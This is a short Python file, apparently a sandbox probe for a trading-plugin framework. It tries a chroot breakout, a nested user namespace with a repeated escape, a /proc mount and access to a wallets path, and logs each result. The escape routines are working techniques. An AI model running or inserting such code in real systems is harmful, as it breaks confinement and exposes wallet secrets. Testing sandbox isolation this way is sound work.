"""Tries to leave the scratch root: chroot, a nested user namespace, mounting /proc."""

import ctypes
import errno
import os

from ama_tui.kit import Trading

CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000


def attempt(what, action):
    try:
        return f"{what}: got {action()!r}"
    except OSError as exc:
        return f"{what}: {type(exc).__name__} {errno.errorcode.get(exc.errno or 0)}"


def chroot_escape():
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return os.listdir("/")


class EscapeRoot(Trading):
    def analyze(self, data):
        libc = ctypes.CDLL(None, use_errno=True)

        def nested_namespace():
            if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
                raise OSError(ctypes.get_errno(), "unshare")
            return chroot_escape()

        def mount_proc():
            os.makedirs("proc", exist_ok=True)
            if libc.mount(b"proc", b"proc", b"proc", 0, None) != 0:
                raise OSError(ctypes.get_errno(), "mount")
            return os.listdir("proc")

        self.log(attempt("chroot", chroot_escape))
        self.log(attempt("nested namespace", nested_namespace))
        self.log(attempt("mount proc", mount_proc))
        self.log(attempt("wallets", lambda: os.stat(self.params["wallets"])))
